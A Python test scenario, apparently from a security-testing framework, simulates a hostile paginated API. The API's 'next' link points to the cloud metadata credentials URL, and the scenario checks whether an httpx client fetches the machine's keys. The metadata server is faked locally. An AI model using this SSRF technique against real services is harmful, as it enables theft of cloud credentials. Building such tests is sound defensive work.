"""C13: an API's response names the address of its next page. The app fetches any address.

Plaintext requests use the app's proxy, which the API's server plays here: the metadata address itself is
never contacted.
"""

import json
from typing import Any

from backwatch.attack.authority import Authority
from backwatch.attack.protocols.http import CREDENTIALS, Request, Web, answered
from backwatch.attack.protocols.server import HostileServer
from backwatch.attack.scenarios import Scenario

METADATA = "http://169.254.169.254/latest/meta-data/iam/security-credentials/shop"
MOST_PAGES = 5


class _Paged(Web):
    """The API and the proxy."""

    def page(self, number: int) -> str:
        """Return the URL of a page."""
        return f"https://localhost:{self.port}/goods?page={number}"

    def answer(self, request: Request) -> bytes:
        if b"169.254.169.254" in request.path:
            return answered(CREDENTIALS)
        after_first = METADATA if self.hostile else self.page(2)
        follows = after_first if b"page=1" in request.path else None
        return answered(json.dumps({"goods": ["apples"], "next": follows}).encode())


class HttpNextPageElsewhere(Scenario):
    """On httpx, in an app that follows ``next`` without checking its host."""

    code = "C13"
    attack = "names the cloud's metadata address as the next page of a list"
    reference = "https://owasp.org/API-Security/editions/2023/en/0xaa-unsafe-consumption-of-apis/; ATT&CK T1552.005"
    driver = "httpx"
    notices = "a page without goods"
    rule = "metadata-address"

    @classmethod
    def service(cls, authority: Authority) -> HostileServer:
        """Return the API, honest at first."""
        return _Paged(authority)

    def work(self) -> None:
        """Read the list."""
        self.meet()

    def meet(self) -> object:
        """Read all pages of the hostile API."""
        import ssl

        import httpx

        context = ssl.create_default_context(cafile=self.config.ca_file)
        proxy = httpx.Proxy(f"https://localhost:{self.config.port}", ssl_context=context)
        pages: list[Any] = []
        following: str | None = f"https://localhost:{self.config.port}/goods?page=1"
        through = {"http://": httpx.HTTPTransport(proxy=proxy)}
        with httpx.Client(mounts=through, verify=context, timeout=5) as client:
            while following and len(pages) < MOST_PAGES:
                pages.append(client.get(following).json())
                following = pages[-1].get("next")
        return pages

    @classmethod
    def succeeded(cls, service: HostileServer, got: object) -> bool:
        """Return whether the app fetched the machine's credentials."""
        del service
        return "SecretAccessKey" in str(got)
